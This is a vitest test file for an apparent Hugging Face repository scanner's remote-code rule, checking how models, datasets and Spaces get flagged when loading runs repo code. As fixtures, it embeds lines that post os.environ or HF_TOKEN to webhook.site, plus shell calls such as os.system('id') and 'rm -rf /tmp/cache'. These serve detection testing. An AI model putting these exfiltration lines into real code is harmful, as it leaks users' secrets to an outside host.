import { describe, expect, it } from "vitest";
import { remoteCodeRule } from "../../../lib/rules/remote-code";
import type { RepoFacts, RepoInfo, RepoFile } from "../../../lib/hub/facts";
import { factOf } from "../../../lib/hub/gaps";
import { reachBehaviours } from "../../../lib/readers/python/reach";
import { readPythonModule, unreadReport } from "../../../lib/readers/python/read-module";
import type { PythonFileRole, PythonFileScan } from "../../../lib/readers/python/types";
import { PAYLOADS, PLACEMENTS, injectionOf } from "../../fixtures/python/payloads";
import { gradioApp, loadingScript, modelingOf, nomicBertModeling, SHAPES, TRAIN_SCRIPT } from "../../fixtures/python/shapes";
import { BALANCED, bertFacts, bertInfo, factOf as fact, file, listing, missing, ref, spaceFacts } from "../../fixtures/facts/builders";

const SHA = "0123456789abcdef0123456789abcdef01234567";
const phiFiles: RepoFile[] = [file("config.json"), file("configuration_phi3.py"), file("modeling_phi3.py"), file("model.safetensors")];

function model(info: Partial<RepoInfo>, files: RepoFile[]) {
  return bertFacts({ repo: ref("microsoft/Phi-3-mini-4k-instruct"), info: fact(bertInfo({ id: "microsoft/Phi-3-mini-4k-instruct", ...info })), files: listing(files) });
}

interface Source {
  path: string;
  role: PythonFileRole;
  code?: string;
  unread?: string;
  repo?: string;
  loadedBy?: string;
}

/** Scans as python-scans.ts builds them, from real reader reports (no network). */
function scans(sources: Source[], repoId: string, type: "model" | "dataset" | "space" = "model"): PythonFileScan[] {
  const byRepo = new Map<string, Source[]>();
  for (const source of sources) byRepo.set(source.repo ?? repoId, [...(byRepo.get(source.repo ?? repoId) ?? []), source]);
  const out: PythonFileScan[] = [];
  for (const [repo, group] of byRepo) {
    const files = group.map((source) => ({ path: source.path, role: source.role, report: source.unread ? unreadReport(source.unread) : readPythonModule(new TextEncoder().encode(source.code ?? "")) }));
    const paths = new Set(group.map((source) => source.path));
    const reached = reachBehaviours(files, (path) => paths.has(path), { followReferences: type !== "space" });
    for (const [i, source] of group.entries()) {
      const report = files[i]!.report;
      out.push({
        repo: { type: repo === repoId ? type : "model", id: repo },
        revision: SHA,
        path: source.path,
        role: source.role,
        ...(source.loadedBy ? { loadedBy: source.loadedBy } : {}),
        status: report.status,
        ...(report.reason ? { reason: report.reason } : {}),
        behaviours: reached.get(source.path) ?? [],
        bytesRead: report.bytes,
        requests: 1,
      });
    }
  }
  return out;
}

function phiWith(sources: Source[], info: Partial<RepoInfo> = { autoMap: { AutoConfig: "configuration_phi3.Phi3Config", AutoModelForCausalLM: "modeling_phi3.Phi3ForCausalLM" }, tags: ["custom_code"] }, extraFiles: RepoFile[] = []): RepoFacts {
  const facts = model(info, [...phiFiles, ...extraFiles]);
  return { ...facts, pythonScans: factOf(scans(sources, "microsoft/Phi-3-mini-4k-instruct")) };
}

const CONFIG = { path: "configuration_phi3.py", role: "auto-map" as const, code: "from transformers import PretrainedConfig\nclass Phi3Config(PretrainedConfig):\n    pass\n", loadedBy: "config.json's auto_map: AutoConfig → configuration_phi3.Phi3Config" };

describe("remote-code without reading the code (listing cards, reading switched off)", () => {
  it.each<[string, Partial<RepoInfo>, RepoFile[], string | undefined, string | undefined]>([
    ["auto_map + .py (Phi-3)", { autoMap: { AutoConfig: "configuration_phi3.Phi3Config", AutoModelForCausalLM: "modeling_phi3.Phi3ForCausalLM" } }, phiFiles, "warn", "Loading this model runs code from the repo"],
    ["tag custom_code only", { tags: ["transformers", "custom_code"] }, [file("model.safetensors")], "warn", "Loading this model runs code from the repo"],
    // Issue 24: transformers does not run a .py that nothing points to.
    [".py files only", {}, [file("model.safetensors"), file("handler.py")], "info", "A Python file that nothing loads"],
    ["nothing (bert-base-uncased)", {}, [file("config.json"), file("model.safetensors")], undefined, undefined],
    ["empty auto_map", { autoMap: {} }, [file("model.safetensors")], undefined, undefined],
  ])("%s → %s", (_name, info, files, level, title) => {
    const [finding] = remoteCodeRule.evaluate(model(info, files), BALANCED);
    expect(finding?.level).toBe(level);
    expect(finding?.title).toBe(title);
  });

  it("lists the .py files and config.json as evidence", () => {
    const [finding] = remoteCodeRule.evaluate(model({ autoMap: { AutoModel: "modeling_phi3.Phi3Model" } }, phiFiles), BALANCED);
    expect(finding?.evidence.map((e) => e.label)).toEqual(["config.json", "configuration_phi3.py", "modeling_phi3.py"]);
    expect(finding?.evidence[2]?.url).toBe("https://huggingface.co/microsoft/Phi-3-mini-4k-instruct/blob/main/modeling_phi3.py");
    expect(finding?.explanation).toContain("auto_map");
    expect(finding?.explanation).toContain("trust_remote_code=True");
  });

  it("repo info failed: whether config.json points at the .py files is not known, so warn (fetch-failed reports the gap)", () => {
    const facts = bertFacts({ info: missing("timeout"), files: listing(phiFiles) });
    const [finding] = remoteCodeRule.evaluate(facts, BALANCED);
    expect(finding?.level).toBe("warn");
    expect(finding?.explanation).toContain("the repo info could not be read");
  });

  it("still reads auto_map when the file list failed", () => {
    const facts = bertFacts({ info: fact(bertInfo({ autoMap: { AutoModel: "x.Y" } })), files: missing("timeout") });
    expect(remoteCodeRule.evaluate(facts, BALANCED)[0]?.level).toBe("warn");
  });

  it("the scans could not be had at all: warn, saying so", () => {
    const facts = { ...model({ autoMap: { AutoModel: "modeling_phi3.Phi3Model" } }, phiFiles), pythonScans: missing<PythonFileScan[]>("network", "Network error.") };
    const [finding] = remoteCodeRule.evaluate(facts, BALANCED);
    expect(finding).toMatchObject({ level: "warn", explanation: expect.stringContaining("could not read the code: Network error.") });
  });

  it("a dataset with a loading script named after it → warn", () => {
    const facts = bertFacts({ repo: ref("someone/squad-like", "dataset"), files: listing([file("squad-like.py"), file("README.md")]) });
    const [finding] = remoteCodeRule.evaluate(facts, BALANCED);
    expect(finding?.level).toBe("warn");
    expect(finding?.title).toBe("Dataset loading script squad-like.py");
  });

  it("a dataset with other .py files (utilities) is not judged", () => {
    const facts = bertFacts({ repo: ref("someone/data", "dataset"), files: listing([file("scripts/prepare.py")]) });
    expect(remoteCodeRule.evaluate(facts, BALANCED)).toEqual([]);
  });

  it("Spaces are apps: without a reading of app.py nothing is said", () => {
    expect(remoteCodeRule.evaluate(spaceFacts("someone/app", { sdk: "gradio" }), BALANCED)).toEqual([]);
  });
});

describe("remote-code with the code read", () => {
  it.each(Object.keys(SHAPES))("the %s shape stays warn: loading runs code, and nothing alarming was found", (key) => {
    const facts = phiWith([CONFIG, { path: "modeling_phi3.py", role: "auto-map", code: modelingOf(key as keyof typeof SHAPES), loadedBy: "config.json's auto_map" }]);
    const findings = remoteCodeRule.evaluate(facts, BALANCED);
    expect(findings.map((finding) => finding.level)).toEqual(["warn"]);
    expect(findings[0]?.title).toBe("Loading this model runs code from the repo");
    expect(findings[0]?.explanation).toContain("Hub Sentinel read 2 of the 2 files that loading runs and found nothing that runs commands, hides code, contacts other hosts or reads secrets.");
    expect(findings[0]?.code?.map((item) => [item.label, item.lines.length])).toEqual([
      ["configuration_phi3.py", 0],
      ["modeling_phi3.py", 0],
    ]);
  });

  const cases = PAYLOADS.flatMap((payload) => PLACEMENTS.map((placement) => [payload.kind, placement, payload] as const));
  it.each(cases)("%s hidden %s → danger on that file, with its lines linked at the commit", (kind, placement, payload) => {
    const code = modelingOf("phi3", injectionOf(payload, placement));
    const facts = phiWith([CONFIG, { path: "modeling_phi3.py", role: "auto-map", code, loadedBy: "config.json's auto_map: AutoModelForCausalLM" }]);
    const findings = remoteCodeRule.evaluate(facts, BALANCED);
    const danger = findings.filter((finding) => finding.level === "danger");
    expect(danger).toHaveLength(1);
    expect(danger[0]?.title).toMatch(/^modeling_phi3\.py .+ when the model loads$/);
    expect(danger[0]?.evidence).toEqual([{ label: "modeling_phi3.py", url: "https://huggingface.co/microsoft/Phi-3-mini-4k-instruct/blob/main/modeling_phi3.py" }]);
    const lines = danger[0]?.code?.[0]?.lines ?? [];
    expect(lines.length).toBeGreaterThan(0);
    expect(lines[0]?.url).toMatch(new RegExp(`^https://huggingface\\.co/microsoft/Phi-3-mini-4k-instruct/blob/${SHA}/modeling_phi3\\.py#L\\d+$`));
    expect(lines.some((line) => line.text.includes(payload.words))).toBe(true);
    // The warn finding still says loading runs code, listing the benign config only.
    const warn = findings.find((finding) => finding.level === "warn");
    expect(warn?.code?.map((item) => item.label)).toEqual(["configuration_phi3.py"]);
    expect(warn?.explanation).toContain("modeling_phi3.py is reported above as danger; in the others it found nothing");
    void kind;
  });

  it("a danger-class call that only runs when called is warn, with where it sits", () => {
    const code = modelingOf("phi3", { onCall: '        os.system("echo tools")' });
    const findings = remoteCodeRule.evaluate(phiWith([CONFIG, { path: "modeling_phi3.py", role: "auto-map", code }]), BALANCED);
    expect(findings.map((finding) => finding.level)).toEqual(["warn"]);
    const line = findings[0]?.code?.find((item) => item.label === "modeling_phi3.py")?.lines[0];
    expect(line?.text).toContain("runs the shell command `echo tools`");
    expect(line?.text).toContain("in Phi3ForCausalLM.generate_with_tools, which runs only when something calls it");
  });

  it("says the path loading takes to a helper", () => {
    const code = modelingOf("phi3", injectionOf(PAYLOADS[0]!, "helper"));
    const [danger] = remoteCodeRule.evaluate(phiWith([CONFIG, { path: "modeling_phi3.py", role: "auto-map", code }]), BALANCED);
    expect(danger?.code?.[0]?.lines[0]?.text).toContain("in function _prepare_runtime, which runs when the model is built (Phi3Model.post_init → _prepare_runtime)");
    expect(danger?.code?.[0]?.lines[0]?.text).toContain("(hidden: __import__ of a name built at run time");
  });

  it("loaded code that could not be read is warn, never quiet, and names the reason", () => {
    const findings = remoteCodeRule.evaluate(phiWith([CONFIG, { path: "modeling_phi3.py", role: "auto-map", unread: "not read: binary data (a NUL byte at offset 3), not Python source" }]), BALANCED);
    expect(findings.map((finding) => finding.level)).toEqual(["warn"]);
    expect(findings[0]?.explanation).toContain("Hub Sentinel read 1 of the 2 files that loading runs and found nothing");
    expect(findings[0]?.explanation).toContain("1 file could not be read (modeling_phi3.py: not read: binary data");
    expect(findings[0]?.code?.find((item) => item.label === "modeling_phi3.py")?.note).toMatch(/^not read: binary data/);
  });

  it("code in another repo (nomic-bert's shape): read there, the finding says whose code it is and links there", () => {
    const facts: RepoFacts = {
      ...bertFacts({ repo: ref("nomic-ai/nomic-embed-text-v1"), info: fact(bertInfo({ id: "nomic-ai/nomic-embed-text-v1", autoMap: { AutoModel: "nomic-ai/nomic-bert-2048--modeling_hf_nomic_bert.NomicBertModel" } })), files: listing([file("config.json"), file("model.safetensors")]) }),
    };
    const exfil = nomicBertModeling({ init: '        import requests\n        requests.post("https://webhook.site/x", json=dict(os.environ))' });
    facts.pythonScans = factOf(scans([{ path: "modeling_hf_nomic_bert.py", role: "auto-map", code: exfil, repo: "nomic-ai/nomic-bert-2048" }], "nomic-ai/nomic-embed-text-v1"));
    const findings = remoteCodeRule.evaluate(facts, BALANCED);
    const danger = findings.find((finding) => finding.level === "danger");
    expect(danger?.title).toBe("nomic-ai/nomic-bert-2048: modeling_hf_nomic_bert.py sends your secrets to another host when the model loads");
    expect(danger?.explanation).toContain("The code is in another repo, nomic-ai/nomic-bert-2048 (read at commit 0123456)");
    expect(danger?.evidence[0]?.url).toBe(`https://huggingface.co/nomic-ai/nomic-bert-2048/blob/${SHA}/modeling_hf_nomic_bert.py`);
    expect(danger?.code?.[0]?.lines[0]?.text).toContain("in NomicBertPreTrainedModel.__init__");
    const warn = findings.find((finding) => finding.level === "warn");
    expect(warn?.title).toBe("Loading this model runs code from nomic-ai/nomic-bert-2048");
    expect(warn?.explanation).toContain("The code is in another repo: nomic-ai/nomic-bert-2048 (read at commit 0123456)");
  });

  it("a .py that nothing loads is info, even when it holds a danger-class call, and says what it would do if run", () => {
    const facts = { ...model({}, [file("config.json"), file("model.safetensors"), file("train_script.py"), file("handler.py")]) };
    facts.pythonScans = factOf(scans([{ path: "train_script.py", role: "unloaded", code: TRAIN_SCRIPT }, { path: "handler.py", role: "unloaded", code: 'import os\nos.system("rm -rf /tmp/cache")\n' }], "microsoft/Phi-3-mini-4k-instruct"));
    const findings = remoteCodeRule.evaluate(facts, BALANCED);
    expect(findings.map((finding) => [finding.level, finding.title])).toEqual([["info", "2 Python files that nothing loads"]]);
    expect(findings[0]?.explanation).toContain("Run by hand, they would do what is listed below (runs a shell command or another program).");
    expect(findings[0]?.code?.find((item) => item.label === "handler.py")?.lines[0]?.text).toContain("nothing loads this file, so it runs only if you run the file yourself");
  });

  it("a dataset loading script with a payload in _split_generators → danger", () => {
    const facts = bertFacts({ repo: ref("someone/squad_like", "dataset"), files: listing([file("squad_like.py"), file("README.md")]) });
    facts.pythonScans = factOf(scans([{ path: "squad_like.py", role: "loading-script", code: loadingScript("squad_like", { init: '        os.system("id")' }) }], "someone/squad_like", "dataset"));
    const findings = remoteCodeRule.evaluate(facts, BALANCED);
    expect(findings.map((finding) => [finding.level, finding.title])).toEqual([
      ["danger", "squad_like.py runs a shell command or another program when the dataset loads"],
      ["warn", "Dataset loading script squad_like.py"],
    ]);
    expect(findings[0]?.evidence[0]?.url).toBe("https://huggingface.co/datasets/someone/squad_like/blob/main/squad_like.py");
  });

  it("a benign dataset loading script stays warn", () => {
    const facts = bertFacts({ repo: ref("someone/squad_like", "dataset"), files: listing([file("squad_like.py")]) });
    facts.pythonScans = factOf(scans([{ path: "squad_like.py", role: "loading-script", code: loadingScript("squad_like") }], "someone/squad_like", "dataset"));
    expect(remoteCodeRule.evaluate(facts, BALANCED).map((finding) => finding.level)).toEqual(["warn"]);
  });
});

describe("remote-code for Spaces", () => {
  const space = (code: string | undefined, unread?: string) => {
    const facts = spaceFacts("someone/demo", { sdk: "gradio" });
    facts.pythonScans = factOf(scans([{ path: "app.py", role: "space-app", ...(code === undefined ? {} : { code }), ...(unread ? { unread } : {}) }], "someone/demo", "space"));
    return facts;
  };

  it("a clean app says nothing", () => {
    expect(remoteCodeRule.evaluate(space(gradioApp()), BALANCED)).toEqual([]);
  });

  it("an app that sends os.environ to a webhook as it starts: danger, for whoever duplicates it", () => {
    const findings = remoteCodeRule.evaluate(space(gradioApp('import requests\nrequests.post("https://webhook.site/abc", json=dict(os.environ))')), BALANCED);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ level: "danger", title: "app.py sends your secrets to another host when the Space starts" });
    expect(findings[0]?.explanation).toContain("Whoever duplicates this Space runs this code with their own secrets");
  });

  it("a handler that does it: warn at least", () => {
    const findings = remoteCodeRule.evaluate(space(gradioApp("", 'import requests\nrequests.post("https://webhook.site/abc", data=os.environ.get("HF_TOKEN"))')), BALANCED);
    expect(findings.map((finding) => finding.level)).toEqual(["warn"]);
  });

  it("a Space running shell commands in its own container is not a finding", () => {
    expect(remoteCodeRule.evaluate(space(gradioApp('os.system("pip install -r requirements.txt")')), BALANCED)).toEqual([]);
  });

  it("an app file that could not be read: unknown, never ok", () => {
    const findings = remoteCodeRule.evaluate(space(undefined, "not read: HTTP 500"), BALANCED);
    expect(findings.map((finding) => [finding.level, finding.title])).toEqual([["unknown", "The Space's app code could not be read: app.py"]]);
  });
});
